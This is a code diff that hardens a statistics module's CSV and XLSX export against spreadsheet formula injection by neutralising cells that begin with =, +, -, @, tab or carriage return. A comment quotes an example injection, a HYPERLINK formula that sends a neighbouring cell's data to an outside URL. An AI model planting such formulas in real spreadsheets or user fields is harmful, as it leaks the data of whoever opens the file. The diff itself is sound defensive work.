@@ -403,6 +403,18 @@ def tables(stats: Statistics) -> dict[str, tuple[tuple[str, ...], list[list]]]:
     }
 
 
+# A text cell that starts with one of these is read as a formula by Excel, WPS and LibreOffice (CSV injection):
+# a session titled =HYPERLINK("http://…"&B3,"详情") would send the next cell's data wherever it points.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value):
+    """User text as inert text in a CSV cell: a leading ' where it would start a formula (numbers unchanged)."""
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def to_csv(stats: Statistics, table: str) -> bytes:
     import csv
     import io
@@ -411,7 +423,7 @@ def to_csv(stats: Statistics, table: str) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerows([spreadsheet_text(value) for value in row] for row in rows)
     return ("\ufeff" + buffer.getvalue()).encode("utf-8")  # the BOM makes Excel read UTF-8
 
 
@@ -428,6 +440,9 @@ def to_xlsx(stats: Statistics) -> bytes:
         sheet.append(list(header))
         for row in rows:
             sheet.append(row)
+            for cell in sheet[sheet.max_row]:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"  # text, never a formula (openpyxl makes "=…" a formula by itself)
     buffer = io.BytesIO()
     book.save(buffer)
     return buffer.getvalue()
